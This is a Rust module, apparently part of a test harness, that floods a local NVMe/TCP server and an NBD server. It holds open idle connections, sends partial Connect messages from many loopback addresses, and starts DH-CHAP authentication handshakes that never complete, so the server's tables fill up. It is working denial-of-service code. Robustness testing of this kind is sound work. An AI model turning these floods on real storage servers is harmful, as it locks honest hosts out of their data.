//! Handshakes that are started as fast as possible, and never complete.

use std::collections::VecDeque;
use std::io::{self, Write};
use std::net::{Ipv4Addr, TcpStream};
use std::thread;
use std::time::Duration;

use bytes::Bytes;
use zonda_chap::{HostAuth, HostAuthConfig, Policy, Random, Secret};
use zonda_nvme::tcp::{Digests, InitializeRequest};

use super::Victim;
use crate::nvme::{Queue, dial};
use crate::{GUARDED, HOST};

/// Threads that open connections.
const KNOCKERS: usize = 3;
/// Connections that each thread holds.
const HELD: usize = 100;
/// The same for connections that start to authenticate: the whole table of the server.
const NEGOTIATIONS_HELD: usize = 250;
/// Time between two of them in each thread: 1000 in a second of all.
const NEGOTIATION_EVERY: Duration = Duration::from_millis(KNOCKERS as u64);
/// Their addresses. Each waiting address delays the honest host by a step.
const NEGOTIATION_ADDRESSES: u32 = 250;
/// Addresses of attacks from many addresses.
const ADDRESSES: u32 = 500;
/// Delay after a failed attempt.
const PAUSE: Duration = Duration::from_millis(1);

/// From the address of the honest host: an idle connection, or only ICReq.
pub(super) fn same_address(victim: Victim) -> ! {
    flood(HELD, move |number| {
        let mut stream = dial(Ipv4Addr::LOCALHOST, victim.nvme)?;
        if number % 2 == 0 {
            stream.write_all(InitializeRequest::new(0, Digests::NONE, 1).bytes())?;
        }
        Ok(stream)
    })
}

/// From many addresses: only a Connect with the NQN of the honest host.
pub(super) fn many_addresses(victim: Victim) -> ! {
    flood(HELD, move |number| {
        let mut queue = Queue::begin(attacker_address(number), victim.nvme)?;
        queue.start_connect(HOST, GUARDED, 0, None, 0)?;
        Ok(queue.stream)
    })
}

/// The same with the first message of an authentication, which the server answers with a key
/// exchange.
pub(super) fn negotiations(victim: Victim) -> ! {
    let mut config = HostAuthConfig::new(HOST, GUARDED, Secret::generate(None, [6; 64]));
    config.policy = Policy::modest();
    let negotiate: Bytes =
        HostAuth::new(config, Random::new([8; 32])).message().expect("the host sends the first message").into();
    flood(NEGOTIATIONS_HELD, move |number| {
        thread::sleep(NEGOTIATION_EVERY);
        let mut queue = Queue::begin(attacker_address(number % NEGOTIATION_ADDRESSES), victim.nvme)?;
        queue.start_connect(HOST, GUARDED, 0, None, 0)?;
        queue.start_message(&negotiate)?;
        Ok(queue.stream)
    })
}

/// From many addresses: silent NBD clients.
pub(super) fn silent_nbd(victim: Victim) -> ! {
    flood(HELD, move |number| dial(attacker_address(number), victim.nbd))
}

fn attacker_address(number: u32) -> Ipv4Addr {
    let number = number % ADDRESSES;
    Ipv4Addr::new(127, 0, 1 + (number / 250) as u8, 1 + (number % 250) as u8)
}

/// Opens connections continuously; each thread keeps the last ones open.
fn flood(kept: usize, make: impl Fn(u32) -> io::Result<TcpStream> + Clone + Send + 'static) -> ! {
    let knock = |first: usize| {
        let make = make.clone();
        thread::spawn(move || {
            let mut held = VecDeque::new();
            for number in (0..).map(|round: u32| round.wrapping_mul(KNOCKERS as u32).wrapping_add(first as u32)) {
                match make(number) {
                    Ok(stream) => held.push_back(stream),
                    Err(_) => thread::sleep(PAUSE),
                }
                if held.len() > kept {
                    held.pop_front();
                }
            }
        })
    };
    let threads: Vec<thread::JoinHandle<()>> = (0..KNOCKERS).map(knock).collect();
    threads.into_iter().for_each(|thread| drop(thread.join()));
    unreachable!("the threads never end")
}
